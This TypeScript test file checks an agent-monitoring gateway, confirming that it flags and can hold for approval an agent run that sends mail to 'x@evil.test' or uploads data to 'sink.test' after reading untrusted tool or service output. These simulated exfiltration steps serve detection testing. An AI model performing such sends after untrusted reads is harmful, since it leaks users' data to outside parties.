import { RunOpened, proxyRunToken } from '@subluminal/core-types';
import type { LedgerRow } from '@subluminal/ledger';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { runBegin, start, toolCall, type TestGateway, type TestRun } from '../gateway/harness.js';
import { runSub } from '../harness/resident.js';
import { Authority } from '../mail/kit/authority.js';
import { SmtpServer } from '../mail/kit/smtp-server.js';
import { codeOf, mailAccount, PASSWORD } from '../mail/kit/world.js';
import { connect, end, gatewayFor, seqOf } from '../net/connections.js';
import { http, Peer, tcp } from '../proxy/world.js';
import { Lister, tool } from '../tools/lister.js';

const LETTER = { subject: 'x', body: 'y' };

let authority: Authority;
let smtp: SmtpServer;
let smtpPort: number;
beforeAll(async () => {
  authority = new Authority();
  smtp = new SmtpServer(authority, PASSWORD);
  smtpPort = await smtp.listen();
});
afterAll(() => {
  smtp.close();
  authority.remove();
});

/** A gateway whose names are all of this machine, with a mail account, and these places on its allowlist. */
async function ready(more: string, ports: readonly (readonly [string, number])[]): Promise<TestGateway> {
  const world = await start({
    config: `[anomaly]\nburst = "flag"\n${more}[egress]\nextra_ca_file = ${JSON.stringify(authority.path('ca.pem'))}\n`,
    resolver: { resolve: () => Promise.resolve(['127.0.0.1']) },
  });
  const operator = await world.operator();
  const account = mailAccount({ smtp: { port: smtpPort, security: 'starttls' } });
  expect((await operator.request('account.add', account)).status).toBe('success');
  for (const [host, port] of [['mail.test', smtpPort] as const, ...ports])
    expect((await operator.request('allow.add', { host, port, allow_private: true })).status).toBe('success');
  return world;
}

async function openRun(world: TestGateway, agent = 'claude'): Promise<TestRun & { readonly proxy: number }> {
  const operator = await world.operator();
  const answer = await operator.request('run.begin', runBegin({ agent_id: agent }));
  const { run_id: id, credential, proxy } = RunOpened.parse(answer.data);
  return { id, credential, client: await world.connect(credential), proxy: proxy?.port ?? 0 };
}

/** A request through the proxy, as any program makes it. */
function asked(run: TestRun & { readonly proxy: number }, host: string, path = '/'): Promise<string> {
  const authorization = Buffer.from(`run:${proxyRunToken(run.credential)}`).toString('base64');
  return new Peer(run.proxy)
    .send(
      `GET http://${host}${path} HTTP/1.1\r\nHost: ${host}\r\nProxy-Authorization: Basic ${authorization}\r\n\r\n`,
    )
    .over();
}

/** So many runs that made one request each, and ended. */
async function past(world: TestGateway, runs: number, host: string, agent = 'claude'): Promise<void> {
  for (let count = 0; count < runs; count += 1) {
    const run = await openRun(world, agent);
    expect(await asked(run, host)).toContain(' 200 ');
    await run.client.request('run.end', { status: 'SUCCEEDED' });
  }
}

function flagsOf(world: TestGateway, run: TestRun): LedgerRow[] {
  return world.rows('anomaly').filter(({ runId }) => runId === run.id);
}

const kinds = (rows: readonly LedgerRow[]): unknown[] => rows.map(({ data }) => data['kind']);

it('what is unusual about a run is in its record, in the record of what did it, at its end, and across a restart', async () => {
  const port = await http((_incoming, response) => response.end('hello'));
  const sink = await tcp((socket) => socket.resume());
  const here = `web.test:${port}`;
  const world = await ready('', [
    ['web.test', port],
    ['api.test', port],
    ['sink.test', sink.port],
  ]);
  await past(world, 3, here);
  await past(world, 1, `api.test:${port}`, 'codex');

  const run = await openRun(world);
  expect(await asked(run, here)).toContain(' 200 ');
  expect(flagsOf(world, run)).toEqual([]);
  const read = await run.client.request('service.api_call', {
    service: 'api',
    endpoint: `http://api.test:${port}/issues/1`,
    method: 'GET',
  });
  expect(read.status).toBe('success');
  expect((await run.client.request('email.send', { ...LETTER, to: ['x@evil.test'] })).status).toBe('success');
  expect(kinds(flagsOf(world, run))).toEqual(['new_for_agent', 'new_domain', 'send_after_untrusted_read']);
  const flag = flagsOf(world, run).at(-1);
  expect(flag?.data['summary']).toMatch(
    /^email.send to an address at `evil.test`, new to `claude`, \d+ s after reading from service.api_call of `api.test` \(\d+\.[0-9a-f]{64}\)$/,
  );
  expect(flag?.data['facts']).toMatchObject({ to: ['evil.test'], read: { audit_ref: read.auditRef } });

  // What it has read is known to the next process.
  await world.restart();
  const again = await world.connect(run.credential);
  const proxy = gatewayFor(world, run);
  const opened = await connect(proxy, 'sink.test', sink.port);
  expect((await end(proxy, seqOf(opened), { bytes_up: 204_800, bytes_down: 10 })).status).toBe('success');
  expect(kinds(flagsOf(world, run)).slice(3)).toEqual(['new_domain', 'send_after_untrusted_read']);
  await again.request('run.end', { status: 'SUCCEEDED' });
  const ended = world.rows('run_end').find(({ runId }) => runId === run.id);
  expect(ended?.data['unusual']).toEqual({
    new_for_agent: 1,
    new_domain: 2,
    send_after_untrusted_read: 2,
  });

  const home = world.paths.home;
  const sub = async (...argv: string[]): Promise<string> => (await runSub([...argv, '--home', home])).stdout;
  const found = (await sub('query', '--flagged', '--run', run.id, '--json'))
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as { action: string; flags: { kind: string }[] });
  expect(found.map(({ action, flags }) => [action, ...flags.map(({ kind }) => kind)])).toEqual([
    ['net.connect', 'new_domain', 'send_after_untrusted_read'],
    ['email.send', 'new_domain', 'send_after_untrusted_read'],
    ['service.api_call', 'new_for_agent'],
  ]);
  expect(await sub('show', String(seqOf(opened)))).toMatch(
    /unusual +send_after_untrusted_read: 200.0 KB to `sink.test`, new to `claude`/,
  );
  expect(await world.verify()).toBe('ok');
});

it('what needs an approval waits for it, for this mail alone, and a connection waits for none', async () => {
  const port = await http((_incoming, response) => response.end('hello'));
  const world = await ready('send_after_untrusted_read = "approve"\nnew_for_agent = "approve"\n', [
    ['web.test', port],
  ]);
  await past(world, 3, `web.test:${port}`);
  const run = await openRun(world);
  const endpoint = `http://web.test:${port}/`;
  await run.client.request('service.api_call', { service: 'web', endpoint, method: 'GET' });
  const letter = { ...LETTER, to: ['x@evil.test'] };
  const sent = smtp.taken.length;
  const asking = await run.client.request('email.send', letter);
  expect(codeOf(asking)).toBe('requires_approval');
  expect(codeOf(await run.client.request('email.send', letter))).toBe('requires_approval');
  const operator = await world.operator();
  const listed = JSON.stringify((await operator.request('approvals.list', {})).data);
  expect(listed).toContain('send_after_untrusted_read');
  expect(listed).toContain('after reading from service.api_call of `web.test`');
  const id = asking.error?.details?.['approval_id'];
  expect((await operator.request('approvals.approve', { approval_id: id })).status).toBe('success');
  expect((await run.client.request('email.send', letter)).status).toBe('success');
  expect(smtp.taken.length).toBe(sent + 1);
  expect(codeOf(await run.client.request('email.send', { ...letter, body: 'more' }))).toBe(
    'requires_approval',
  );
  const codex = await openRun(world, 'codex');
  expect(await asked(codex, `web.test:${port}`)).toContain(' 200 ');
  expect(flagsOf(world, codex).map(({ data, code }) => [data['kind'], data['reaction'], code])).toEqual([
    ['new_for_agent', 'flag', null],
  ]);
});

it('a tool that says `openWorldHint`, and servers that the operator names, count as read from; others do not', async () => {
  const sink = await tcp((socket) => socket.resume());
  const web = await http((_incoming, response) => response.end('hello'));
  const hosts = ['one.test', 'two.test', 'three.test', 'four.test'];
  const world = await ready('untrusted_servers = ["issues"]\nprivate_servers = ["files"]\n', [
    ['web.test', web],
    ...hosts.map((host) => [host, sink.port] as const),
  ]);
  await past(world, 3, `web.test:${web}`);
  const upload = async (run: TestRun, host: string, up: number): Promise<unknown[]> => {
    const proxy = gatewayFor(world, run);
    const opened = await connect(proxy, host, sink.port);
    await end(proxy, seqOf(opened), { bytes_up: up, bytes_down: 10 });
    const flags = flagsOf(world, run).filter(({ data }) => data['connection'] === seqOf(opened));
    return flags.map(({ data }) => data['summary']);
  };
  const call = async (run: TestRun, server: string, name: string): Promise<string> => {
    const answer = await run.client.request(
      'tool.call.begin',
      toolCall({ server_name: server, tool_name: name }),
    );
    expect(answer.status).toBe('success');
    return answer.auditRef;
  };

  const run = await openRun(world);
  const tools = [tool('fetch', { annotations: { openWorldHint: true } }), tool('render')];
  await new Lister(run.client, 'browser').seen(tools);
  await call(run, 'browser', 'render');
  expect(await upload(run, 'one.test', 204_800)).toEqual([]);
  const ref = await call(run, 'browser', 'fetch');
  expect(await upload(run, 'two.test', 5120)).toEqual([]);
  const own = await call(run, 'files', 'read');
  expect(await upload(run, 'three.test', 5120)).toEqual([
    expect.stringMatching(
      `^5.0 KB to \`three.test\`, new to \`claude\`, \\d+ s after reading from tool \`browser.fetch\` \\(${ref}\\), and private data from tool \`files.read\` \\(${own}\\)$`,
    ),
  ]);
  const other = await openRun(world);
  await call(other, 'issues', 'list');
  expect(await upload(other, 'four.test', 204_800)).toHaveLength(1);
});
